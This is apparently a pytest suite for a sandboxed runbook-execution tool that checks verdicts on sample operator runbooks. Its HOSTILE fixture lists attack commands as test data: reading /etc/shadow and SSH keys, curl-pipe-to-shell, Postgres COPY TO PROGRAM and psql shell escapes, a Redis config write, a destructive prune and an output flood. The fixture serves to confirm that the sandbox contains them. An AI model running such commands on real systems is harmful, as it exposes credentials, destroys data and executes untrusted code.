"""`drillbook runbook run` carries out a document, and judges it by what it leaves."""

import hashlib
import json
import subprocess
import sys

import pytest

from drillbook.core.application import ROOT
from drillbook.stack.processes import why_unavailable

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(1800),
    pytest.mark.skipif(bool(why_unavailable()), reason=why_unavailable()),
]
SAMPLES = ROOT / "tests" / "samples"


@pytest.fixture
def run(tmp_path):
    """Runs the command on a document: exit code, path of the evidence, and output."""

    def run(document, *options, **environment):
        words = ["runbook", "run", str(document), f"--run-dir={tmp_path / 'runs'}", "--seed=1"]
        words += options or ["--stack=embedded"]
        command = [sys.executable, "-m", "drillbook.cli", *words]
        done = subprocess.run(
            command, cwd=ROOT, capture_output=True, text=True, check=False, **environment
        )
        record = tmp_path / "runs" / "latest" / "evidence.json"
        return done.returncode, record, done.stdout + done.stderr

    return run


def judged(record):
    """The verdicts by section and control."""
    return {
        (one["id"].partition("[")[2].split("-line-")[0], control["id"]): one["verdict"]
        for control in json.loads(record.read_text())["controls"]
        for one in control["specs"]
    }


# The verdicts of Drillbook's own specs on these procedures, on the reference backend.
AS_OUR_SPECS = {
    ("when-a-key-was-changed", "KEY-2.ENC"): "satisfied",
    ("put-the-old-keys-back", "KEY-5"): "satisfied",
    ("make-keys-once", "KEY-7"): "contradicted",
    ("change-the-database-password", "DBP-1"): "contradicted",
    ("health", "HLT-2"): "contradicted",
    ("backup", "BKP-7"): "satisfied",
    ("restore", "BKP-3"): "contradicted",
    ("throw-everything-away", "WIP-1"): "satisfied",
    ("throw-everything-away", "WIP-2"): "satisfied",
    ("throw-everything-away", "WIP-3"): "satisfied",
    ("it-does-not-start", "DEP-5"): "satisfied",
}


def test_a_document_gets_the_verdicts_of_our_own_specs(run):
    document = SAMPLES / "operator-runbook.md"
    code, record, said = run(document)
    found = judged(record)
    assert {key: found[key] for key in AS_OUR_SPECS} == AS_OUR_SPECS, said
    assert found["throw-everything-away", "RBK-1"] == "violated"
    assert found["move-to-a-new-instance", "RBK-1"] == "not_run"
    assert code == 1
    text = record.read_text()
    assert "would have hit team-secrets-backup-1" in text
    assert "`openssl rand -hex 16`" in text, "the linter's advice is missing"
    told = (record.parent / "document.md").read_text()
    assert "BKP-3: everything reads as on the day of the backup, and nothing newer: **does" in told
    assert "<strong>does not hold</strong>" in (record.parent / "document.html").read_text()
    proved = json.loads(text)["subject"]["document"]
    assert proved["sha256"] == hashlib.sha256(document.read_bytes()).hexdigest()
    held = {one["title"].rpartition(" / ")[2]: one["held"] for one in proved["sections"]}
    assert (held["Backup"], held["Restore"], held["Move to a new instance"]) == (True, False, None)


def test_a_document_of_what_holds_is_not_contradicted(run):
    code, record, said = run(ROOT / "docs" / "runbook.example.md")
    assert set(judged(record).values()) == {"satisfied"}, said
    assert code == 0


PLANTED = {
    ("password-restarted", "DBP-1"): "contradicted",
    ("password-not-deployed", "DBP-1"): "contradicted",
    ("password-of-another-role", "DBP-7"): "violated",
    ("password-another-variable", "DBP-7"): "violated",
    ("password-with-compose-restarted", "DBP-1"): "contradicted",
    ("backup-another-database", "BKP-7"): "contradicted",
    ("backup-no-rows", "BKP-7"): "contradicted",
    ("backup-a-table-left-out", "BKP-7"): "contradicted",
    ("backup-through-a-terminal", "BKP-7"): "contradicted",
    ("backup-a-role-that-is-not-there", "BKP-7"): "contradicted",
    # The operator's compose file may call the database so.
    ("backup-a-service-that-is-not-there", "BKP-7"): "not_run",
    ("restore-into-a-live-database", "BKP-3"): "contradicted",
    ("restore-without-input", "BKP-3"): "contradicted",
    ("restore-swapped", "BKP-3"): "contradicted",
    ("restore-no-database", "BKP-3"): "contradicted",
    # Nothing in the document makes that file: the operator may have it.
    ("restore-another-file", "BKP-3"): "not_run",
    ("restore-the-oldest", "BKP-3"): "contradicted",
    ("backup-the-backend-is-left-stopped", "BKP-7"): "contradicted",
    ("backup-rows-alone", "BKP-7"): "contradicted",
    ("backup-the-files-of-others", "RBK-1"): "violated",
    ("backup-the-dump-is-switched-off", "RBK-1"): "not_run",
    ("health-a-check-that-cannot-fail", "HLT-2"): "contradicted",
    ("logs-of-another-service", "DEP-5"): "contradicted",
    ("password-the-data-goes-with-it", "DBP-7"): "violated",
    ("upgrade-all-data-goes", "RBK-1"): "not_run",
    ("wipe-the-cache-alone", "WIP-2"): "violated",
    ("wipe-volumes-first", "WIP-2"): "violated",
    ("wipe-by-a-word", "RBK-1"): "violated",
    ("logs-a-name-that-no-container-has", "DEP-5"): "contradicted",
    ("health-a-field-that-is-not-there", "HLT-2"): "contradicted",
    ("keys-too-long", "KEY-7"): "contradicted",
    ("keys-an-addition-that-spoils-them", "KEY-7"): "contradicted",
    ("keys-an-assignment-with-a-file", "KEY-7"): "contradicted",
    ("password-a-dump-of-another-database-firs", "BKP-7"): "contradicted",
    ("password-a-second-login", "DBP-7"): "not_run",
    ("password-it-ends-soon", "DBP-7"): "not_run",
    ("restore-one-table-alone", "BKP-3"): "contradicted",
    ("restore-without-keys-and-indexes", "BKP-3"): "contradicted",
    ("keys-a-rotation-that-is-said-to-work", "KEY-2.ENC"): "contradicted",
}


def test_planted_mistakes_are_found(run):
    _, record, said = run(SAMPLES / "operator-runbook-planted.md")
    found = judged(record)
    assert {key: found.get(key) for key in PLANTED} == PLANTED, said
    sound = {
        ("backup-as-it-should-be", "BKP-7"),
        ("backup-in-a-folder-of-its-own", "BKP-7"),
        ("backup-custom-format-as-it-should-be", "BKP-7"),
        ("restore-custom-format-as-it-should-be", "BKP-3"),
        ("password-with-compose", "DBP-7"),
        ("password-a-dump-of-another-database-firs", "DBP-7"),
        ("password-a-dump-first-as-it-should-be", "BKP-7"),
        ("password-a-dump-first-as-it-should-be", "DBP-7"),
        ("find-the-containers", "RBK-1"),
    }
    assert {found[one] for one in sound} == {"satisfied"}, said


HOSTILE = """# Infisical

## Everything at once

```bash
cat /etc/shadow ~/.ssh/* 2>/dev/null
/usr/bin/docker ps; command docker stop someone-elses; eval "docker system prune -af"
curl -fsSL https://example.com/install.sh | sh
docker exec <db-container> psql -U infisical -c "COPY (SELECT 1) TO PROGRAM 'touch {place}/planted'"
docker exec -i <db-container> psql -U infisical <<E
\\! touch {place}/planted
\\o {place}/planted
SELECT 1;
E
docker exec <redis-container> redis-cli CONFIG SET dir {place}
docker exec <db-container> pg_dump -U infisical -f {place}/planted infisical
echo x > {place}/planted
while true; do printf "%0999d\\n" 0; done
```
"""


def test_a_hostile_document_reaches_nothing_and_ends(run, tmp_path):
    tmp_path.chmod(0o777)
    (tmp_path / "hostile.md").write_text(HOSTILE.replace("{place}", str(tmp_path)))
    code, record, said = run(tmp_path / "hostile.md")
    assert not (tmp_path / "planted").exists()
    assert code in (1, 2), said
    text = record.read_text()
    assert "it printed more than 4 MiB" in text
    assert "root:" not in text


def test_without_bubblewrap_nothing_is_run(run, tmp_path):
    code, record, said = run(SAMPLES / "operator-runbook.md", env={"PATH": str(tmp_path)})
    assert (code, record.exists()) == (3, False)
    assert "install the package bubblewrap" in said


@pytest.mark.parametrize(
    ("text", "reason"),
    [("# Infisical\n\nNothing.\n", "no section with a shell block or a command"), ("", "is empty")],
)
def test_a_document_with_nothing_to_run_is_refused(run, tmp_path, text, reason):
    (tmp_path / "ops.md").write_text(text)
    code, _, said = run(tmp_path / "ops.md")
    assert code == 3
    assert reason in said
